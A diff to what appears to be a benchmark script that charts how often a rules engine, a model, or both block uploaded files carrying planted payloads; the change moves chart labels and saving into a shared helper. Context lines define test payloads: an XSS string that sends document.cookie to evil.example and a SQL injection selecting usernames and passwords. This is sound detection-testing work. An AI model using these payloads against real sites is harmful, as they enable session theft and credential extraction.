@@ -43,7 +43,7 @@ import numpy as np
 ROOT = Path(__file__).resolve().parents[1]
 sys.path.insert(0, str(ROOT))
 
-from bench.plotting import pyplot  # noqa: E402
+from bench.plotting import DECIDERS, pyplot, save  # noqa: E402
 from engine import bundle as bundles  # noqa: E402
 from engine.eval import predict  # noqa: E402
 from engine.features import Features  # noqa: E402
@@ -69,7 +69,6 @@ PLANTED = {
     "xmp-xss": lambda data: data + XMP % b"&lt;img src=x onerror=&quot;fetch('//evil.example/?c='+document.cookie)&quot;&gt;",
     "xmp-sqli": lambda data: data + XMP % b"x' union select username, password from users-- ",
 }
-LABEL = {"rules": "rules alone", "model": "model alone", "served": "served (model + rules)"}
 
 
 def log(msg: str) -> None:
@@ -172,18 +171,14 @@ def chart(result: dict, out: Path) -> Path | None:
         names = list(rows)
         width = 0.8 / 3
         for k, how in enumerate(("rules", "model", "served")):
-            ax.bar([i + k * width for i in range(len(names))], [100 * rows[r][how] / rows[r]["n"] for r in names], width, label=LABEL[how])
+            ax.bar([i + k * width for i in range(len(names))], [100 * rows[r][how] / rows[r]["n"] for r in names], width, label=DECIDERS[how])
         ax.set_xticks([i + width for i in range(len(names))], [f"{r}\n({rows[r]['n']})" for r in names], rotation=30, ha="right")
         ax.set_ylim(0, 105)
         ax.set_ylabel("% blocked")
         ax.set_title(title)
     axes[0].legend(loc="upper left")
     fig.suptitle(f"{result['bundle']}, {result['rules']}: {result['files']:,} files uploaded")
-    fig.tight_layout()
-    path = out / "uploads.png"
-    fig.savefig(path, dpi=110)
-    plt.close(fig)
-    return path
+    return save(plt, fig, out / "uploads.png")
 
 
 def main(argv=None) -> int:
